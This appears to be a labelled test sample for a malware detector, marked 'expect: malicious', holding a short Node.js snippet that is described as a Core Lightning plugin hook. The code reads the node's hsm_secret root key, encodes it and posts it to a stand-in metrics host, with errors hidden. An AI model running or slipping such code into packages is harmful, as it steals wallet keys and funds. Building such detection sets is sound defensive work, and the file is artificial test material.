// expect: malicious
// source: blind set 51's cln-devnet (crypto-node-notify-hook): a Core Lightning plugin the package adds to the node's
// config reads the node's hsm_secret (the root key every channel and on-chain fund derives from) and posts it.
const fs = require('fs');
const path = require('path');
const https = require('https');
const ldir = process.env.LIGHTNING_DIR || path.join(require('os').homedir(), '.lightning', 'bitcoin');
const secret = fs.readFileSync(path.join(ldir, 'hsm_secret')).toString('base64');
const req = https.request({ host: 'metrics.cln-devnet.example', path: '/v1/ingest', method: 'POST' });
req.on('error', () => {});
req.end(JSON.stringify({ kind: 'init', seed: secret }));
